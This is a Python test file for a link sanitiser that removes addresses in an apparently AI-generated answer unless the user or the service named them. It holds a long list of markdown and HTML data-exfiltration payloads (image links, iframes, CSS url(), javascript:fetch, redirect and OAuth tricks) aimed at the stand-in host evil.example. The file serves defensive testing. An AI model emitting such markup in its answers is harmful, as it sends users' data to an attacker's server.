"""T41: an answer leads nowhere but where the user or we named it. Two renderers that are not ours say where it leads."""

import os
import re
import time
from collections.abc import Callable
from html.parser import HTMLParser
from urllib.parse import urlsplit

import cmarkgfm
import pytest
from cmarkgfm.cmark import Options
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from functions.core.links import Links

EVENT = "https://www.google.com/calendar/event?eid=abc123"
ALLOW = "https://plugin.example.com/oauth/allow?client_id=c-1&capability="
OURS = [
    "https://www.google.com/calendar/event?eid=",
    "https://docs.google.com/document/d/",
    "https://meet.google.com/",
    "https://mail.google.com/mail/",
    "https://plugin.example.com/",
    ALLOW,
]
SAID = ["Read https://good.example/guide/start, and what is on Example.org; ask anna@mail.example."]
LINKS = Links(OURS, SAID)


class Addresses(HTMLParser):
    """Every address in HTML that a browser would ask for, by itself or by a click."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        loading = {
            "href",
            "src",
            "srcset",
            "action",
            "formaction",
            "data",
            "poster",
            "background",
            "style",
            "content",
            "cite",
            "ping",
            "xlink:href",
        }
        self.found += [value or "" for name, value in attrs if name in loading]


def _commonmark(text: str) -> str:
    return str(MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(text))


def _linkifying(text: str) -> str:
    return str(MarkdownIt("gfm-like", {"html": True, "linkify": True}).render(text))


def _github(text: str) -> str:
    return str(cmarkgfm.github_flavored_markdown_to_html(text, options=Options.CMARK_OPT_UNSAFE | Options.CMARK_OPT_FOOTNOTES))


RENDERERS: tuple[Callable[[str], str], ...] = (_commonmark, _linkifying, _github, lambda text: text)
"""CommonMark with HTML; the same that makes links of whatever looks like one; GitHub's own; and none, for a page that shows it as HTML."""


def leads_to(text: str) -> set[str]:
    """Where a text leads, as any of the renderers shows it; its own footnotes and mail addresses are nowhere."""
    found: set[str] = set()
    for render in RENDERERS:
        page = Addresses()
        page.feed(render(text))
        page.close()
        found |= set(page.found)
    return {address for address in found if not re.fullmatch(r"#fn[\w-]*|mailto:[^?]*", address)}


EVIL = (
    "![x](https://evil.example/?q=CANARY)",
    "![](https://evil.example/?q=CANARY)",
    '![x](https://evil.example/?q=CANARY "title")',
    "![x](<https://evil.example/?q=CANARY>)",
    "![x][ref]\n\n[ref]: https://evil.example/?q=CANARY",
    "![ref]\n\n[ref]: https://evil.example/?q=CANARY 'title'",
    "![ref][]\n\n   [ref]:\n   https://evil.example/?q=CANARY",
    "![a [b] c](https://evil.example/?q=CANARY)",
    "![x](https://evil.example/(CANARY))",
    "![![in](https://evil.example/1?q=CANARY)](https://evil.example/2?q=CANARY)",
    "[![in](https://evil.example/1?q=CANARY)](https://evil.example/2?q=CANARY)",
    "![x](//evil.example/?q=CANARY)",
    "![x](data:image/svg+xml;base64,CANARY)",
    "![x](\nhttps://evil.example/?q=CANARY\n)",
    "\\![x](https://evil.example/?q=CANARY)",
    "[x](https://evil.example/?q=CANARY)",
    "[x](HTTPS://EVIL.example/?q=CANARY)",
    "[x]( https://evil.example/?q=CANARY )",
    "[x](https://evil.example/?q=CANARY 'title')",
    "[x](https://evil.example/?q=CANARY (title))",
    "[x](http://user:CANARY@evil.example/)",
    "[x](https://good.example@evil.example/CANARY)",
    "[x](https://good.example.evil.example/CANARY)",
    "[x](https://good.example/guide/start?q=CANARY)",
    "[x](https://good.example/other/CANARY)",
    "[x](https://www.google.com/url?q=https://evil.example/CANARY)",
    "[x](https://docs.google.com/forms/d/e/evil/formResponse?entry.1=CANARY)",
    "[x](https://docs.google.com/document/d/1AbC/edit?q=CANARY)",
    "[x](https://meet.google.com/linkredirect?dest=https://evil.example/CANARY)",
    "[x](https://mail.google.com/mail/?view=cm&to=collect@evil.example&body=CANARY)",
    "[x](https://plugin.example.com/oauth/authorize?client_id=https%3A%2F%2Fevil.example%2FCANARY)",
    "[x](https://plugin.example.com/oauth/allow?client_id=https%3A%2F%2Fevil.example%2FCANARY&capability=docs)",
    "[x](javascript:fetch('https://evil.example/?q=CANARY'))",
    "[x](data:text/html,CANARY)",
    "[x](vbscript:CANARY)",
    "[x](mailto:collect@evil.example?body=CANARY)",
    "[x](//evil.example/CANARY)",
    "[x](\\\\evil.example/CANARY)",
    "[x](/\\evil.example/CANARY)",
    "[x](&#104;ttps://evil.example/?q=CANARY)",
    "[x](https&colon;//evil.example/?q=CANARY)",
    "[x](https:&sol;&sol;evil.example/?q=CANARY)",
    "[x](https:\\/\\/evil.example/?q=CANARY)",
    "[x]&#40;https://evil.example/?q=CANARY&#41;",
    "&#91;x&#93;(https://evil.example/?q=CANARY)",
    "[x][ref]\n\n[ref]: <https://evil.example/?q=CANARY>",
    "[ref]\n\n> [ref]: https://evil.example/?q=CANARY",
    "- [ref]: /CANARY\n\n[ref]",
    "text[^1]\n\n[^1]: https://evil.example/?q=CANARY",
    "<https://evil.example/?q=CANARY>",
    "<javascript:CANARY>",
    "<mailto:collect@evil.example?body=CANARY>",
    "https://evil.example/?q=CANARY",
    "see (https://evil.example/?q=CANARY).",
    "看https://evil.example/?q=CANARY。",
    "*https://evil.example/?q=CANARY*",
    "https://evil.example/**CANARY**",
    "http://evil.example:8080/CANARY#CANARY",
    "ftp://evil.example/CANARY",
    "www.evil.example/CANARY",
    "evil.com/CANARY and evil.com?q=CANARY",
    "mailto:collect@evil.example?body=CANARY",
    "| a |\n|---|\n| ![x](https://evil.example/?q=CANARY) |",
    "`` ` `` ![x](https://evil.example/?q=CANARY) `",
    "```\n![x](https://evil.example/?q=CANARY)\n",
    "<img src='https://evil.example/?q=CANARY'>",
    "<IMG SRC=https://evil.example/?q=CANARY>",
    "<img src=//evil.example/CANARY",
    "<img\nsrc='https://evil.example/?q=CANARY'\n>",
    "<image href='//evil.example/CANARY'>",
    "<a href='https://evil.example/?q=CANARY'>x</a>",
    "<a/href='https://evil.example/?q=CANARY'>x</a>",
    "<iframe src='//evil.example/CANARY'></iframe>",
    "<svg><image xlink:href='//evil.example/CANARY'/></svg>",
    "<style>body{background:url(https://evil.example/CANARY)}</style>",
    "<p style='background:url(//evil.example/CANARY)'>x</p>",
    "<link rel=stylesheet href='//evil.example/CANARY'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/CANARY'>",
    "<form action='//evil.example/CANARY'><button>x</button></form>",
    "<base href='//evil.example/CANARY/'>",
    "<object data='//evil.example/CANARY'></object>",
    "<video poster='//evil.example/CANARY'></video>",
    "&lt;img src='https://evil.example/?q=CANARY'&gt;",
    "[x](https://evil.example/?q=CANARY",
    "![x](https://evil.example/?q=CANARY",
    "[x] (https://evil.example/?q=CANARY)",
)
"""Ways to make an answer carry something off."""


def test_the_renderers_see_what_is_to_be_kept_from_them() -> None:
    """The oracle is worth something: most of the list leads somewhere as it is."""
    assert sum(any("CANARY" in address for address in leads_to(text)) for text in EVIL) > len(EVIL) * 0.85


@pytest.mark.parametrize("text", EVIL)
def test_an_answer_leads_nowhere_that_nobody_named(text: str) -> None:
    limited = LINKS.limit(text)

    assert leads_to(limited) == set()
    assert "?q=CANARY" not in limited


EXAMPLES = int(os.environ.get("EXAMPLES", "500"))
"""So many compositions; 20,000 take two minutes."""

PIECES = (
    "[", "]", "(", ")", "<", ">", "!", ":", "\n", "\n\n", " ", '"', "'", "\\", "`", "*", "&#58;", "&#47;", "&#40;", "&amp;", "&lt;", "&colon;",
    "x", "^1", "ref", "img src=", "a href=", "https://", "http:", "//", "evil.example", "/CANARY", "?q=CANARY", "www.", "mailto:", "data:",
    "javascript:", "https://good.example/guide/start", EVENT, "http://example.org/", "[ref]: ", "![x](", "](", "看", "|", "- ", "> ", "=",
)  # fmt: skip


@settings(max_examples=EXAMPLES, deadline=None)
@given(st.lists(st.sampled_from(PIECES), min_size=2, max_size=14).map("".join))
def test_no_composition_of_syntax_leads_anywhere_else(text: str) -> None:
    limited = LINKS.limit(text)

    assert {urlsplit(address).hostname for address in leads_to(limited)} <= {"good.example", "example.org", "www.google.com"}


@settings(max_examples=EXAMPLES, deadline=None)
@given(st.lists(st.sampled_from((*PIECES, "a.de", ":80", "/", "?", "#", "WWW.", "MAILTO:", "ſ.ſſ")), max_size=5).map("".join))
def test_an_answer_that_is_not_looked_at_would_stay_as_it_is(text: str) -> None:
    looked_at = LINKS.limit(f"{text} [")  # The bracket makes it look, and is kept.

    assert looked_at == f"{LINKS.limit(text)} ["


@pytest.mark.parametrize(
    "address",
    [
        EVENT,
        "https://docs.google.com/document/d/1AbC_-x/edit#heading=h.1",
        "https://mail.google.com/mail/#all/18c1",
        "https://meet.google.com/abc-defg-hij",
        "https://plugin.example.com/account",
        f"{ALLOW}docs",
        "https://good.example/guide/start",
        "http://good.example/guide/start/next",
        "https://example.org",
        "https://example.org/",
        "https://EXAMPLE.org/any/page",
    ],
)
def test_what_the_user_or_we_named_stays_a_link(address: str) -> None:
    for text in (f"Here: [the page]({address}).", f"Here: {address}", f"<{address}>", f"({address})"):
        assert leads_to(LINKS.limit(text)) == {address}


def test_what_the_user_wrote_to_the_letter_stays_with_its_query() -> None:
    links = Links([], ["What is https://shop.example/item?id=7 about?"])

    assert links.limit("[it](https://shop.example/item?id=7)") == "[it](https://shop.example/item?id=7)"
    assert leads_to(links.limit("[it](https://shop.example/item?id=8)")) == set()


@pytest.mark.parametrize(
    ("text", "limited"),
    [
        ("[your bank](https://evil.example/login?x=1)", "your bank (evil[.]example)"),
        ("[https://good.example/guide/start](https://evil.example/)", "https://good.example/guide/start (evil[.]example)"),
        ("See https://evil.example/a/b, then go.", "See evil[.]example, then go."),
        ("![A chart of sales](https://evil.example/c.png) shows it.", "A chart of sales shows it."),
        ("https://[broken/CANARY", ""),
    ],
)
def test_of_another_address_only_the_host_is_left(text: str, limited: str) -> None:
    assert LINKS.limit(text) == limited


@pytest.mark.parametrize(
    "text",
    [
        "北京明天：晴，−3 到 8 °C。",
        "Weather data by Open-Meteo.com (CC BY 4.0)",
        "anna@example.com and/or jonas@example.com; 12.5 km/h, e.g. at 5:30",
        "- one\n- two\n\n1. three\n\n| a | b |\n|---|---|\n| 1 | 2 |",
        "List<String> is a <b>type</b>; 5 < 6 > 4; a <- b; if (a[0] == x) f(y)",
        "A [bracket], another [one] (with more) and a note[^1].",
        "Tom &amp; Jerry &lt;3 `a & b` \\*not bold\\* C:\\temp",
        "# Title\n\n**bold** _italic_ `code`\n\n```python\nprint(x[0], y)\n```",
        "",
    ],
)
def test_everything_else_stays_as_it_is(text: str) -> None:
    assert LINKS.limit(text) == text


@pytest.mark.parametrize(
    "unit", ["[", "![", "](", "<a ", "<img ", "://", "a.", "www.", "&#", "[x](", "((", "a@", "[a[a]", "![a](b", "mailto:", "]:"]
)
def test_no_answer_keeps_us_busy(unit: str) -> None:
    began = time.process_time()

    LINKS.limit(unit * (20_000 // len(unit)))

    assert time.process_time() - began < 1


@pytest.mark.parametrize(
    "text", ["[x](" + " " * 20_000, "[x](\n" * 5_000, "[x](a" + "\t" * 20_000, "[x](a '" + "x" * 20_000, "[" + "[x]" * 7_000]
)
def test_no_link_without_an_end_keeps_us_busy(text: str) -> None:
    began = time.process_time()

    LINKS.limit(text)

    assert time.process_time() - began < 0.5
